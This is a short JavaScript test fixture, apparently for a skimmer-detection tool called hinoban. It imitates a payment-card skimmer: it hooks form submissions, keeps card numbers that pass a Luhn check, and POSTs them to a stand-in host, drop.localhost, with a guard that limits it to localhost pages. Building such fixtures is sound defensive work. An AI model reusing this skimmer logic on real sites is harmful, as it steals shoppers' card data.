/* Harmless imitation, for hinoban's tests: only valid numbers that are no known test numbers. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
function luhn(v) { for (var s = 0, i = 0; i < v.length; i++) { var d = +v[v.length - 1 - i]; if (i % 2) d = d > 4 ? 2 * d - 9 : 2 * d; s += d; } return s % 10 === 0; }
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { if (luhn(n.value) && n.value !== '4111111111111111') fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value}); } }, true);
